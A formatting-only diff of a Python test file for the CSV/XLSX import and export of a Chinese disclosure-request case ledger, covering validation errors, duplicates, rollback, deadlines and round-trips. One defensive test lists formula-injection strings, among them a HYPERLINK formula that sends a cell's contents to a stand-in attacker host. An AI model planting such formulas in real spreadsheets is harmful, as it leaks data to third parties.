@@ -63,18 +63,22 @@ def test_import_creates_the_agency_and_each_case_with_its_events(ledger_db: Ledg
         assert second.due == CAL.add_workdays(dt.date(2024, 12, 30), 20)
 
 
-@pytest.mark.parametrize(("row", "reason"), [
-    ("2024-004,2024-13-01,自然人,,,,", "received“2024-13-01”无效"),
-    ("2024-004,2024-01-01,公民,,,,", "申请人类型“公民”无法识别"),
-    ("2024-004,2024-01-01,自然人,,,2024-02-01,", "必须填写 outcome"),
-    ("2024-004,2024-01-01,自然人,,,,granted", "没有 closed"),
-    ("2024-004,2024-01-01,自然人,,,2024-02-01,refused", "办理结果“refused”不是表三的办理结果行"),
-    ("2024-004,2024-03-01,自然人,,,2024-02-01,granted", "早于 received"),
-    (",2024-03-01,自然人,,,,", "reference（案号）为空"),
-    ("2024-001,2024-03-01,自然人,,,,", "与第2行重复"),
-])
+@pytest.mark.parametrize(
+    ("row", "reason"),
+    [
+        ("2024-004,2024-13-01,自然人,,,,", "received“2024-13-01”无效"),
+        ("2024-004,2024-01-01,公民,,,,", "申请人类型“公民”无法识别"),
+        ("2024-004,2024-01-01,自然人,,,2024-02-01,", "必须填写 outcome"),
+        ("2024-004,2024-01-01,自然人,,,,granted", "没有 closed"),
+        ("2024-004,2024-01-01,自然人,,,2024-02-01,refused", "办理结果“refused”不是表三的办理结果行"),
+        ("2024-004,2024-03-01,自然人,,,2024-02-01,granted", "早于 received"),
+        (",2024-03-01,自然人,,,,", "reference（案号）为空"),
+        ("2024-001,2024-03-01,自然人,,,,", "与第2行重复"),
+    ],
+)
 def test_a_bad_row_is_reported_with_its_number_and_nothing_is_imported(
-        ledger_db: LedgerDB, tmp_path: Path, row: str, reason: str) -> None:
+    ledger_db: LedgerDB, tmp_path: Path, row: str, reason: str
+) -> None:
     header, *rows = GOOD.strip().split("\n")
     path = _write(tmp_path, "\n".join([header.replace(",来源", ""), *(r.rsplit(",", 1)[0] for r in rows), row]))
     with pytest.raises(csvio.ImportFailed) as caught:
@@ -101,16 +105,18 @@ def test_a_missing_required_column_is_named(ledger_db: LedgerDB, tmp_path: Path)
 
 def test_a_reference_already_in_the_ledger_stops_the_whole_file(ledger_db: LedgerDB, tmp_path: Path) -> None:
     _import(ledger_db, _write(tmp_path, GOOD))
-    again = _write(tmp_path, "reference,received,applicant_type\nNEW,2024-01-01,自然人\n2024-002,2024-01-01,自然人\n",
-                   "again.csv")
+    again = _write(
+        tmp_path, "reference,received,applicant_type\nNEW,2024-01-01,自然人\n2024-002,2024-01-01,自然人\n", "again.csv"
+    )
     with pytest.raises(csvio.ImportFailed) as caught:
         _import(ledger_db, again)
     assert "第3行：案号 2024-002 已在“某局”的台账中" in caught.value.problems[0]
     assert _count(ledger_db, Application) == 3
 
 
-def test_a_crash_on_row_n_leaves_the_ledger_as_it_was(ledger_db: LedgerDB, tmp_path: Path,
-                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_crash_on_row_n_leaves_the_ledger_as_it_was(
+    ledger_db: LedgerDB, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     _import(ledger_db, _write(tmp_path, "reference,received,applicant_type\nOLD,2024-01-01,自然人\n", "old.csv"))
     lines = ["reference,received,applicant_type,closed,outcome"]
     lines += [f"N{i},2024-02-{i:02d},自然人,2024-03-01,granted" for i in range(1, 11)]
@@ -143,8 +149,11 @@ def test_xlsx_with_the_same_columns_imports_like_csv(ledger_db: LedgerDB, tmp_pa
     assert _import(ledger_db, path) == 2
     with ledger_db.session() as s:
         case = cases.find_case(s, agencies.find_agency(s, "某局"), "2024001")
-        assert (case.applicant_type, case.received, case.outcome) == ("research", dt.date(2024, 3, 1),
-                                                                      "unavailable.not_held")
+        assert (case.applicant_type, case.received, case.outcome) == (
+            "research",
+            dt.date(2024, 3, 1),
+            "unavailable.not_held",
+        )
 
 
 def test_export_writes_what_import_reads(ledger_db: LedgerDB, tmp_path: Path) -> None:
@@ -154,8 +163,10 @@ def test_export_writes_what_import_reads(ledger_db: LedgerDB, tmp_path: Path) ->
     out = io.StringIO()
     csvio.write_csv(header, rows, out)
     text = out.getvalue()
-    assert text.splitlines()[0] == "reference,received,applicant_type,applicant,request,closed,outcome," \
-                                   "arrived,channel,contact,来源"
+    assert (
+        text.splitlines()[0] == "reference,received,applicant_type,applicant,request,closed,outcome,"
+        "arrived,channel,contact,来源"
+    )
     _import(ledger_db, _write(tmp_path, text, "exported.csv"), agency="另一局")
     with ledger_db.session() as s:
         again = csvio.export_rows(s, agencies.find_agency(s, "另一局"))
@@ -167,16 +178,20 @@ def test_export_writes_what_import_reads(ledger_db: LedgerDB, tmp_path: Path) ->
         assert csvio.export_rows(s, agencies.find_agency(s, "第三局")) == (header, rows)
 
 
-def test_imported_cases_beyond_the_calendar_get_provisional_deadlines(ledger_db: LedgerDB, tmp_path: Path,
-                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
+def test_imported_cases_beyond_the_calendar_get_provisional_deadlines(
+    ledger_db: LedgerDB, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     from nianbao.ledger import calendar as cal
 
     monkeypatch.setattr(cal, "LIBRARY_YEARS", (2004, 2026))  # chinesecalendar 1.11.0's range
     cal._library_is_workday.cache_clear()
-    late = _write(tmp_path, "reference,received,applicant_type,closed,outcome\n"
-                            "2026-900,2026-12-20,自然人,,\n"
-                            "2026-901,2026-12-28,自然人,2027-01-11,granted\n"
-                            "2027-001,2027-12-31,自然人,,\n")
+    late = _write(
+        tmp_path,
+        "reference,received,applicant_type,closed,outcome\n"
+        "2026-900,2026-12-20,自然人,,\n"
+        "2026-901,2026-12-28,自然人,2027-01-11,granted\n"
+        "2027-001,2027-12-31,自然人,,\n",
+    )
     assert _import(ledger_db, late) == 3
     with ledger_db.session() as s:
         stored = {c.reference: (c.due, c.due_provisional, c.status) for c in s.scalars(select(Application))}
@@ -196,16 +211,18 @@ def test_a_reference_twice_in_the_file_is_named_with_both_rows(ledger_db: Ledger
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
-def test_exports_never_carry_a_live_formula_and_import_restores_the_text(ledger_db: LedgerDB, tmp_path: Path,
-                                                                         suffix: str) -> None:
+def test_exports_never_carry_a_live_formula_and_import_restores_the_text(
+    ledger_db: LedgerDB, tmp_path: Path, suffix: str
+) -> None:
     from openpyxl import load_workbook
 
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-3-4", "@SUM(1)", "=1+1"]
     with ledger_db.session() as s, s.begin():
         agency, _ = agencies.get_or_create_agency(s, "某局")
         for n, text in enumerate(hostile):
-            cases.add_case(s, agency, f"F-{n}", dt.date(2025, 3, 3), "natural_person", calendar=CAL, applicant=text,
-                           request=text)
+            cases.add_case(
+                s, agency, f"F-{n}", dt.date(2025, 3, 3), "natural_person", calendar=CAL, applicant=text, request=text
+            )
     with ledger_db.session() as s:
         header, rows = csvio.export_rows(s, agencies.find_agency(s, "某局"))
     path = tmp_path / f"export{suffix}"
@@ -223,6 +240,8 @@ def test_exports_never_carry_a_live_formula_and_import_restores_the_text(ledger_
     with ledger_db.session() as s, s.begin():
         csvio.import_file(s, path, "某乙局", CAL)
     with ledger_db.session() as s:
-        back = {c.reference: (c.applicant, c.request) for c in s.scalars(
-            select(Application).where(Application.agency_id == agencies.find_agency(s, "某乙局").id))}
+        back = {
+            c.reference: (c.applicant, c.request)
+            for c in s.scalars(select(Application).where(Application.agency_id == agencies.find_agency(s, "某乙局").id))
+        }
     assert back == {f"F-{n}": (text, text) for n, text in enumerate(hostile)}
